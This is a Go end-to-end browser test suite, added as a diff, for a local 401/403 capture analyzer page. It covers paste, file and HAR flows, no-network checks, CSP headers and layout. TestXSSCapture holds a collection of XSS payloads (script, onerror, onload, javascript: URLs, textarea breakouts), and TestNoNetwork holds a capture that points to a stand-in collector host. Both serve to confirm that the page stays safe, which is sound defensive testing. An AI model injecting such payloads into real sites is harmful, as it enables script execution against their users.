@@ -1,0 +1,658 @@
+//go:build !js
+
+// Package e2e drives the why401 page in a real headless Chromium (Debian's
+// /usr/bin/chromium) through chromedp: the paste flow, the file flow, the HAR
+// table, a capture full of XSS payloads, a no-network assertion and the
+// README screenshot.
+//
+// The tests build the page's wasm into a temporary site root, so they never
+// run against a stale web/analyzer.wasm. They skip only when CI is unset and
+// chromium is missing; in CI a missing browser fails them.
+package e2e
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/chromedp"
+
+	"why401/internal/site"
+)
+
+var (
+	repoRoot string // the repository (index.html, web/, docs/)
+	siteRoot string // temporary copy of the page with a freshly built wasm
+	server   *httptest.Server
+	browser  context.Context // a running browser; tests open tabs in it
+
+	mu       sync.Mutex
+	served   []string // every path the server was asked for
+	setupErr error
+)
+
+// staticFiles are the only paths the page may ever request.
+var staticFiles = map[string]bool{
+	"/": true, "/index.html": true,
+	"/web/app.js": true, "/web/examples.js": true, "/web/style.css": true,
+	"/web/worker.js": true, "/web/wasm_exec.js": true, "/web/analyzer.wasm": true,
+}
+
+func chromiumPath() string {
+	for _, p := range []string{"/usr/bin/chromium", "chromium", "chromium-browser", "google-chrome"} {
+		if q, err := exec.LookPath(p); err == nil {
+			return q
+		}
+	}
+	return ""
+}
+
+func TestMain(m *testing.M) {
+	_, file, _, _ := runtime.Caller(0)
+	repoRoot = filepath.Dir(filepath.Dir(file))
+	exe := chromiumPath()
+	if exe == "" {
+		if os.Getenv("CI") != "" {
+			fmt.Fprintln(os.Stderr, "e2e: chromium is missing and CI is set (install it: apt-get install -y chromium)")
+			os.Exit(1)
+		}
+		fmt.Fprintln(os.Stderr, "e2e: chromium not found; browser tests skipped (set CI to make this an error)")
+		os.Exit(0)
+	}
+	tmp, err := os.MkdirTemp("", "why401-e2e-")
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+	siteRoot = tmp
+	setupErr = buildSite(siteRoot)
+	server = httptest.NewServer(recording(site.Handler(siteRoot)))
+
+	alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(),
+		chromedp.ExecPath(exe), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
+		chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck, chromedp.WindowSize(1200, 900),
+		chromedp.Flag("disable-background-networking", true),
+		chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("disable-sync", true),
+		chromedp.Flag("disable-dev-shm-usage", true),
+	)
+	var cancelBrowser context.CancelFunc
+	browser, cancelBrowser = chromedp.NewContext(alloc)
+	if setupErr == nil {
+		setupErr = chromedp.Do(browser) // start the browser once
+	}
+	code := m.Run()
+	cancelBrowser()
+	cancelAlloc()
+	server.Close()
+	os.RemoveAll(tmp)
+	os.Exit(code)
+}
+
+// buildSite copies the page into root and builds its wasm there.
+func buildSite(root string) error {
+	if err := os.MkdirAll(filepath.Join(root, "web"), 0o755); err != nil {
+		return err
+	}
+	files, _ := filepath.Glob(filepath.Join(repoRoot, "web", "*.js"))
+	files = append(files, filepath.Join(repoRoot, "web", "style.css"), filepath.Join(repoRoot, "index.html"))
+	for _, f := range files {
+		if filepath.Base(f) == "wasm_exec.js" {
+			continue
+		}
+		rel, _ := filepath.Rel(repoRoot, f)
+		b, err := os.ReadFile(f)
+		if err != nil {
+			return err
+		}
+		if err := os.WriteFile(filepath.Join(root, rel), b, 0o644); err != nil {
+			return err
+		}
+	}
+	goroot, err := exec.Command("go", "env", "GOROOT").Output()
+	if err != nil {
+		return fmt.Errorf("go env GOROOT: %w", err)
+	}
+	b, err := os.ReadFile(filepath.Join(strings.TrimSpace(string(goroot)), "lib", "wasm", "wasm_exec.js"))
+	if err != nil {
+		return err
+	}
+	if err := os.WriteFile(filepath.Join(root, "web", "wasm_exec.js"), b, 0o644); err != nil {
+		return err
+	}
+	cmd := exec.Command("go", "build", "-trimpath", "-ldflags=-s -w", "-o", filepath.Join(root, "web", "analyzer.wasm"), "./wasm")
+	cmd.Dir = repoRoot
+	cmd.Env = append(os.Environ(), "GOOS=js", "GOARCH=wasm")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		return fmt.Errorf("building the wasm: %v\n%s", err, out)
+	}
+	return nil
+}
+
+func recording(h http.Handler) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		served = append(served, r.Method+" "+r.URL.RequestURI())
+		mu.Unlock()
+		h.ServeHTTP(w, r)
+	})
+}
+
+// tab opens the page in a new tab and waits for the analyzer to be ready.
+// dialogs counts JavaScript dialogs (alert, confirm, prompt) the page opens.
+type tab struct {
+	ctx     context.Context
+	t       *testing.T
+	mu      sync.Mutex
+	dialogs []string
+	reqs    []*network.EventRequestWillBeSent
+}
+
+func openPage(t *testing.T) *tab {
+	t.Helper()
+	if setupErr != nil {
+		t.Fatalf("setup: %v", setupErr)
+	}
+	ctx, cancel := chromedp.NewContext(browser)
+	t.Cleanup(cancel)
+	ctx, cancelT := context.WithTimeout(ctx, 60*time.Second)
+	t.Cleanup(cancelT)
+	tb := &tab{ctx: ctx, t: t}
+	if err := chromedp.Do(ctx); err != nil { // attach the tab before listening
+		t.Fatal(err)
+	}
+	if err := chromedp.Listen(ctx, func(ev any) {
+		tb.mu.Lock()
+		defer tb.mu.Unlock()
+		switch ev := ev.(type) {
+		case *page.EventJavascriptDialogOpening:
+			tb.dialogs = append(tb.dialogs, string(ev.Type)+": "+ev.Message)
+		case *network.EventRequestWillBeSent:
+			tb.reqs = append(tb.reqs, ev)
+		}
+	}); err != nil {
+		t.Fatal(err)
+	}
+	if err := chromedp.Do(ctx, chromedp.Navigate(server.URL+"/"),
+		chromedp.WaitReady(`html[data-ready="true"]`)); err != nil {
+		t.Fatalf("the page did not get ready: %v", err)
+	}
+	return tb
+}
+
+func (tb *tab) do(actions ...chromedp.Action[chromedp.Void]) {
+	tb.t.Helper()
+	if err := chromedp.Do(tb.ctx, actions...); err != nil {
+		tb.t.Fatal(err)
+	}
+}
+
+func eval[T any](tb *tab, js string) T {
+	tb.t.Helper()
+	v, err := chromedp.Run(tb.ctx, chromedp.Evaluate[T](js))
+	if err != nil {
+		tb.t.Fatalf("evaluate %q: %v", js, err)
+	}
+	return v
+}
+
+// resetState marks the results as stale so waitDone waits for a new report.
+func (tb *tab) resetState() {
+	tb.t.Helper()
+	eval[bool](tb, `(document.querySelector("#results").dataset.state = "stale", true)`)
+}
+
+// setInput puts text into textarea#input as a paste would.
+func (tb *tab) setInput(text string) {
+	tb.t.Helper()
+	b, _ := json.Marshal(text)
+	eval[bool](tb, `(document.querySelector("textarea#input").value = `+string(b)+`, true)`)
+}
+
+func (tb *tab) waitDone() {
+	tb.t.Helper()
+	tb.do(chromedp.WaitReady(`#results[data-state="done"]`))
+}
+
+type result struct {
+	Index   string `json:"index"`
+	Verdict string `json:"verdict"`
+	Vendor  string `json:"vendor"`
+	Scheme  string `json:"scheme"`
+	Cause   string `json:"cause"`
+	Tag     string `json:"tag"`
+}
+
+// results lists the elements carrying data-verdict under #results (cards,
+// table rows), skipping the verdict pills inside rows.
+func (tb *tab) results(sel string) []result {
+	tb.t.Helper()
+	return eval[[]result](tb, `[...document.querySelectorAll(`+"`#results "+sel+"`"+`)].map(e => ({
+		index: e.dataset.index, verdict: e.dataset.verdict, vendor: e.dataset.vendor,
+		scheme: e.dataset.scheme, cause: e.dataset.cause, tag: e.tagName.toLowerCase()}))`)
+}
+
+func (tb *tab) find(sel, index string) result {
+	tb.t.Helper()
+	for _, r := range tb.results(sel) {
+		if r.Index == index {
+			return r
+		}
+	}
+	tb.t.Fatalf("no %s with data-index=%s; have %+v; status %q", sel, index, tb.results(sel), eval[string](tb, `document.querySelector("#status").textContent`))
+	return result{}
+}
+
+func TestExamples(t *testing.T) {
+	tb := openPage(t)
+	cases := []struct {
+		id, index, verdict, cause, sel string
+	}{
+		{"expired", "0", "auth", "expired_token", ".card"},
+		{"cloudflare", "0", "bot", "", ".card"},
+		{"redirect", "1", "auth", "redirect_dropped_auth", "tr.entry"},
+	}
+	for _, c := range cases {
+		tb.resetState()
+		tb.do(chromedp.Click(`button[data-example="` + c.id + `"]`))
+		tb.waitDone()
+		r := tb.find(c.sel, c.index)
+		if r.Verdict != c.verdict || (c.cause != "" && r.Cause != c.cause) {
+			t.Errorf("example %s: got %+v, want verdict %s cause %q", c.id, r, c.verdict, c.cause)
+		}
+		if c.id == "cloudflare" && r.Vendor != "cloudflare" {
+			t.Logf("example cloudflare: vendor %q (expected cloudflare once the vendor rules match)", r.Vendor)
+		}
+		if c.id == "redirect" {
+			// One problem in the HAR: its card is open under the row.
+			card := tb.find(".card", "1")
+			if card.Verdict != "auth" || card.Scheme != "bearer" {
+				t.Errorf("redirect example card: %+v", card)
+			}
+		}
+	}
+}
+
+func TestPasteFlow(t *testing.T) {
+	tb := openPage(t)
+	const capture = "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"admin\"\r\nContent-Length: 0\r\n\r\n"
+	// Analyze-on-paste: a paste event analyses what the field then holds.
+	tb.resetState()
+	tb.setInput(capture)
+	eval[bool](tb, `document.querySelector("textarea#input").dispatchEvent(new ClipboardEvent("paste", {bubbles: true}))`)
+	tb.waitDone()
+	if r := tb.find(".card", "0"); r.Verdict != "auth" || r.Scheme != "basic" {
+		t.Errorf("pasted Basic 401: %+v", r)
+	}
+	// The Analyze button, with a curl -v transcript this time.
+	tb.resetState()
+	tb.do(chromedp.SetValue(`textarea#input`, "> GET /x HTTP/1.1\n> Host: a.example\n>\n< HTTP/1.1 429 Too Many Requests\n< Retry-After: 30\n<\n"),
+		chromedp.Click(`button#analyze`))
+	tb.waitDone()
+	if r := tb.find(".card", "0"); r.Verdict != "rate_limit" {
+		t.Errorf("pasted curl -v 429: %+v", r)
+	}
+	// Not a capture: an error, said as text.
+	tb.resetState()
+	tb.setInput("hello")
+	tb.do(chromedp.Click(`button#analyze`))
+	tb.waitDone()
+	if msg := eval[string](tb, `document.querySelector("#results [role=alert]")?.textContent ?? ""`); msg == "" {
+		t.Error("no error shown for an input without a response")
+	}
+}
+
+func sharedCaptures(t *testing.T) string {
+	d := filepath.Join(repoRoot, "..", "shared", "captures")
+	if env := os.Getenv("WHY401_CAPTURES"); env != "" {
+		d = env
+	}
+	if _, err := os.Stat(d); err != nil {
+		t.Skipf("shared captures not present: %v", err)
+	}
+	return d
+}
+
+func (tb *tab) upload(path string) {
+	tb.t.Helper()
+	tb.resetState()
+	tb.do(chromedp.SetUploadFiles(`input#file`, []string{path}))
+	tb.waitDone()
+}
+
+func TestFileFlow(t *testing.T) {
+	tb := openPage(t)
+	t.Run("repo-testdata", func(t *testing.T) {
+		tb.t = t
+		tb.upload(filepath.Join(repoRoot, "analyzer", "testdata", "cases", "story", "redirect-dropped-auth.har"))
+		if rows := tb.results("tr.entry"); len(rows) < 2 {
+			t.Fatalf("HAR table rows: %+v", rows)
+		}
+		found := false
+		for _, r := range tb.results("tr.entry") {
+			found = found || r.Cause == "redirect_dropped_auth"
+		}
+		if !found {
+			t.Errorf("no row with cause redirect_dropped_auth: %+v", tb.results("tr.entry"))
+		}
+	})
+	t.Run("har-gz", func(t *testing.T) {
+		tb.t = t
+		src, err := os.ReadFile(filepath.Join(repoRoot, "analyzer", "testdata", "cases", "story", "expired-token.har"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var buf bytes.Buffer
+		zw := gzip.NewWriter(&buf)
+		zw.Write(src)
+		zw.Close()
+		p := filepath.Join(t.TempDir(), "expired-token.har.gz")
+		os.WriteFile(p, buf.Bytes(), 0o644)
+		tb.upload(p)
+		var verdicts []string
+		for _, r := range tb.results("tr.entry") {
+			verdicts = append(verdicts, r.Verdict)
+		}
+		if !strings.Contains(strings.Join(verdicts, " "), "auth") {
+			t.Errorf("gzip HAR: verdicts %v", verdicts)
+		}
+	})
+	t.Run("shared-captures", func(t *testing.T) {
+		tb.t = t
+		dir := sharedCaptures(t)
+		for _, name := range []string{"chrome.har", "firefox.har", "safari.har", "with-bom.har"} {
+			tb.upload(filepath.Join(dir, name))
+			line := eval[string](tb, `document.querySelector("#results .inputline")?.textContent ?? document.querySelector("#results").textContent`)
+			rows := tb.results("tr.entry")
+			if len(rows) == 0 || !strings.Contains(line, name) || !strings.Contains(line, "HAR") {
+				t.Errorf("%s: %d rows, line %q", name, len(rows), line)
+			}
+		}
+	})
+}
+
+func TestHARTable(t *testing.T) {
+	tb := openPage(t)
+	tb.upload(filepath.Join(repoRoot, "analyzer", "testdata", "cases", "story", "challenge-then-xhr.har"))
+	rows := tb.results("tr.entry")
+	if len(rows) < 2 {
+		t.Fatalf("rows: %+v", rows)
+	}
+	// Problems first.
+	seenOK := false
+	for _, r := range rows {
+		if r.Verdict == "ok" {
+			seenOK = true
+		} else if seenOK {
+			t.Errorf("a problem row after an ok row: %+v", rows)
+			break
+		}
+	}
+	// Each row has the four columns and a toggle that opens its card.
+	cols := eval[[]int](tb, `[...document.querySelectorAll("#results tr.entry")].map(r => r.cells.length)`)
+	for _, n := range cols {
+		if n != 5 {
+			t.Fatalf("row cells: %v", cols)
+		}
+	}
+	last := rows[len(rows)-1]
+	sel := `tr.entry[data-index="` + last.Index + `"] button.toggle`
+	expanded := func() string {
+		return eval[string](tb, `document.querySelector(`+"`"+sel+"`"+`).getAttribute("aria-expanded")`)
+	}
+	if expanded() == "true" { // problem rows may start open
+		tb.do(chromedp.Click(sel))
+	}
+	tb.do(chromedp.Click(sel))
+	if got := expanded(); got != "true" {
+		t.Errorf("toggle aria-expanded = %q; rows %+v", got, rows)
+	}
+	if c := tb.find(".card", last.Index); c.Verdict != last.Verdict {
+		t.Errorf("card %+v for row %+v", c, last)
+	}
+	// Filter: only problems.
+	tb.do(chromedp.Click(`#only-problems`))
+	for _, r := range tb.results("tr.entry") {
+		if r.Verdict == "ok" {
+			t.Errorf("ok row shown with 'only problems': %+v", r)
+		}
+	}
+}
+
+// The XSS capture: payloads in header values, bodies, URLs and Location
+// headers. Nothing may execute, and no element may come from capture text.
+const xssRaw = "GET /<script>window.__pwned=1</script> HTTP/1.1\r\n" +
+	"Host: evil.example\r\n" +
+	"Authorization: Bearer <img src=x onerror=\"window.__pwned=2;alert(2)\">\r\n" +
+	"User-Agent: </textarea><script>window.__pwned=3;alert(3)</script>\r\n\r\n" +
+	"HTTP/1.1 401 Unauthorized\r\n" +
+	"WWW-Authenticate: Bearer realm=\"<svg onload=alert(4)>\", error=\"invalid_token\", error_description=\"</textarea><script>window.__pwned=4</script>\"\r\n" +
+	"X-Note: <iframe src=\"javascript:alert(5)\"></iframe>\r\n" +
+	"Location: javascript:window.__pwned=5\r\n" +
+	"Set-Cookie: sess=\"><script>alert(6)</script>; Path=/\r\n" +
+	"Content-Type: text/html\r\n\r\n" +
+	"<html><body><script>window.__pwned=6;alert(7)</script><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(8)</script></svg>" +
+	"<img src=x onerror=alert(9)><a href=\"javascript:alert(10)\">x</a></textarea><style>*{display:none}</style></body></html>\r\n"
+
+const xssHAR = `{"log":{"version":"1.2","creator":{"name":"<script>alert(11)</script>","version":"1"},"entries":[
+{"request":{"method":"GET<img src=x onerror=alert(12)>","url":"javascript:window.__pwned=7//https://a.example/","headers":[{"name":"Authorization","value":"Bearer \"><svg/onload=alert(13)>"}]},
+ "response":{"status":302,"headers":[{"name":"Location","value":"javascript:alert(14)"}],"content":{"mimeType":"text/html","text":"<script>alert(15)</script>"}}},
+{"request":{"method":"GET","url":"https://b.example/<script>alert(16)</script>?q=\"><img src=x onerror=alert(17)>","headers":[{"name":"X-<b>","value":"</textarea><script>alert(18)</script>"}]},
+ "response":{"status":403,"headers":[{"name":"Server","value":"<svg><script>alert(19)</script></svg>"},{"name":"cf-mitigated","value":"challenge"}],
+  "content":{"mimeType":"image/svg+xml","text":"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(20)\"><script>window.__pwned=8</script></svg>"}}}]}}`
+
+func TestXSSCapture(t *testing.T) {
+	tb := openPage(t)
+	check := func(what string) {
+		t.Helper()
+		// Open every row so every card is rendered.
+		eval[bool](tb, `(document.querySelectorAll("#results button.toggle[aria-expanded=false]").forEach(b => b.click()), true)`)
+		if v := eval[string](tb, `String(window.__pwned)`); v != "undefined" {
+			t.Errorf("%s: window.__pwned = %s", what, v)
+		}
+		bad := eval[int](tb, `document.querySelectorAll("#results script, #results img, #results svg, #results iframe, #results style, #results a[href], #results b").length`)
+		if bad != 0 {
+			t.Errorf("%s: %d elements created from capture text", what, bad)
+		}
+		onattrs := eval[int](tb, `[...document.querySelectorAll("#results *")].filter(e => [...e.attributes].some(a => a.name.startsWith("on"))).length`)
+		if onattrs != 0 {
+			t.Errorf("%s: %d elements with on* attributes", what, onattrs)
+		}
+		if n := eval[int](tb, `document.querySelectorAll("textarea").length`); n != 1 {
+			t.Errorf("%s: %d textareas (a </textarea> broke out?)", what, n)
+		}
+		tb.mu.Lock()
+		if len(tb.dialogs) > 0 {
+			t.Errorf("%s: dialogs opened: %v", what, tb.dialogs)
+		}
+		tb.mu.Unlock()
+	}
+	tb.resetState()
+	tb.setInput(xssRaw)
+	tb.do(chromedp.Click(`button#analyze`))
+	tb.waitDone()
+	if txt := eval[string](tb, `document.querySelector("#results").textContent`); !strings.Contains(txt, "Bearer") {
+		t.Errorf("raw XSS capture: no report rendered: %.300s", txt)
+	}
+	check("raw capture")
+
+	tb.resetState()
+	tb.setInput(xssHAR)
+	tb.do(chromedp.Click(`button#analyze`))
+	tb.waitDone()
+	if rows := tb.results("tr.entry"); len(rows) != 2 {
+		t.Errorf("HAR XSS capture: rows %+v", rows)
+	}
+	if txt := eval[string](tb, `document.querySelector("#results").textContent`); !strings.Contains(txt, "javascript:") {
+		t.Errorf("the javascript: URL should be shown as text: %.300s", txt)
+	}
+	check("HAR capture")
+
+	p := filepath.Join(t.TempDir(), "xss<script>alert(21)<script>.har")
+	os.WriteFile(p, []byte(xssHAR), 0o644)
+	tb.upload(p)
+	check("HAR file")
+}
+
+// TestNoNetwork records every request the page makes (CDP network events and
+// the server's own log) while it loads and analyses captures: only the
+// page's own static files may be requested, all with GET, none carrying any
+// part of a capture.
+func TestNoNetwork(t *testing.T) {
+	mu.Lock()
+	served = nil
+	mu.Unlock()
+	tb := openPage(t)
+	const marker = "SeCrEtMaRkEr1234567890"
+	capture := "GET /me?token=" + marker + " HTTP/1.1\nHost: api.example.com\nAuthorization: Bearer " + marker +
+		"\nCookie: sid=" + marker + "\n\nHTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer error=\"invalid_token\"\nLocation: https://collector.example/?" + marker +
+		"\nContent-Type: text/html\n\n<img src=\"https://collector.example/" + marker + ".png\"><link rel=stylesheet href=\"https://collector.example/a.css\">\n"
+	tb.resetState()
+	tb.setInput(capture)
+	tb.do(chromedp.Click(`button#analyze`))
+	tb.waitDone()
+	for _, id := range []string{"expired", "cloudflare", "redirect"} {
+		tb.resetState()
+		tb.do(chromedp.Click(`button[data-example="` + id + `"]`))
+		tb.waitDone()
+	}
+	p := filepath.Join(t.TempDir(), "marker.har")
+	os.WriteFile(p, []byte(strings.ReplaceAll(xssHAR, "alert", marker)), 0o644)
+	tb.upload(p)
+	// Copy as Markdown goes through the worker too.
+	tb.do(chromedp.Click(`#copy-md`))
+	time.Sleep(300 * time.Millisecond)
+
+	tb.mu.Lock()
+	reqs := tb.reqs
+	tb.mu.Unlock()
+	if len(reqs) == 0 {
+		t.Fatal("no network events recorded")
+	}
+	for _, r := range reqs {
+		u := r.Request.URL
+		if strings.HasPrefix(u, "data:") {
+			continue
+		}
+		if !strings.HasPrefix(u, server.URL+"/") || !staticFiles[strings.TrimPrefix(u, server.URL)] {
+			t.Errorf("unexpected request: %s %s", r.Request.Method, u)
+		}
+		if r.Request.Method != "GET" || r.Request.HasPostData {
+			t.Errorf("request with a method or body: %s %s", r.Request.Method, u)
+		}
+		if strings.Contains(u, marker) {
+			t.Errorf("request carries capture data: %s", u)
+		}
+		for k, v := range r.Request.Headers {
+			if strings.Contains(fmt.Sprint(v), marker) || strings.EqualFold(k, "referer") && fmt.Sprint(v) != "" {
+				t.Errorf("request header %s: %v", k, v)
+			}
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	sawWasm := false
+	for _, s := range served {
+		method, path, _ := strings.Cut(s, " ")
+		if method != "GET" || !staticFiles[path] || strings.Contains(s, marker) {
+			t.Errorf("server saw %s", s)
+		}
+		sawWasm = sawWasm || path == "/web/analyzer.wasm"
+	}
+	if !sawWasm {
+		t.Errorf("the server never served the wasm: %v", served)
+	}
+	t.Logf("%d CDP request events, server log %v", len(reqs), served)
+}
+
+// TestSecurityHeaders checks the server's headers and the page's meta CSP.
+func TestSecurityHeaders(t *testing.T) {
+	res, err := http.Get(server.URL + "/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	res.Body.Close()
+	csp := res.Header.Get("Content-Security-Policy")
+	for _, want := range []string{"default-src 'none'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "frame-ancestors 'none'"} {
+		if !strings.Contains(csp, want) {
+			t.Errorf("CSP %q lacks %q", csp, want)
+		}
+	}
+	if strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "http") {
+		t.Errorf("CSP allows inline code or another origin: %q", csp)
+	}
+	if got := res.Header.Get("Referrer-Policy"); got != "no-referrer" {
+		t.Errorf("Referrer-Policy %q", got)
+	}
+	idx, _ := os.ReadFile(filepath.Join(repoRoot, "index.html"))
+	if !bytes.Contains(idx, []byte(`http-equiv="Content-Security-Policy"`)) || !bytes.Contains(idx, []byte(`name="referrer" content="no-referrer"`)) {
+		t.Error("index.html lacks its meta CSP or referrer policy")
+	}
+	if bytes.Contains(idx, []byte("<script>")) || bytes.Contains(idx, []byte(" on")) && bytes.Contains(idx, []byte("onclick")) {
+		t.Error("index.html has inline script")
+	}
+	res, err = http.Get(server.URL + "/go.mod")
+	if err == nil {
+		res.Body.Close()
+		if res.StatusCode != http.StatusNotFound {
+			t.Errorf("the server serves files outside the page: %d", res.StatusCode)
+		}
+	}
+}
+
+// TestPhoneLayout: one column, no horizontal scrolling at phone width.
+func TestPhoneLayout(t *testing.T) {
+	tb := openPage(t)
+	tb.do(chromedp.EmulateViewport(390, 844))
+	tb.resetState()
+	tb.do(chromedp.Click(`button[data-example="redirect"]`))
+	tb.waitDone()
+	if over := eval[bool](tb, `document.documentElement.scrollWidth > window.innerWidth + 1`); over {
+		t.Errorf("page scrolls horizontally at 390 px: scrollWidth %v", eval[int](tb, `document.documentElement.scrollWidth`))
+	}
+	// Keyboard: the Analyze button and the row toggles are focusable buttons.
+	tb.do(chromedp.Focus(`button#analyze`))
+	if id := eval[string](tb, `document.activeElement.id`); id != "analyze" {
+		t.Errorf("focus on %q", id)
+	}
+}
+
+// TestScreenshot renders the Cloudflare example and writes docs/screenshot.png
+// (shown in the README) when it is missing or WHY401_SCREENSHOT is set, so a
+// plain test run does not rewrite a tracked file.
+func TestScreenshot(t *testing.T) {
+	tb := openPage(t)
+	tb.do(chromedp.EmulateViewport(1100, 900))
+	tb.resetState()
+	tb.do(chromedp.Click(`button[data-example="cloudflare"]`))
+	tb.waitDone()
+	png, err := chromedp.Run(tb.ctx, chromedp.FullScreenshot(100))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.HasPrefix(png, []byte("\x89PNG")) || len(png) < 10_000 {
+		t.Fatalf("screenshot: %d bytes", len(png))
+	}
+	out := filepath.Join(repoRoot, "docs", "screenshot.png")
+	if _, err := os.Stat(out); err == nil && os.Getenv("WHY401_SCREENSHOT") == "" {
+		return
+	}
+	if err := os.WriteFile(out, png, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("wrote %s (%d bytes)", out, len(png))
+}
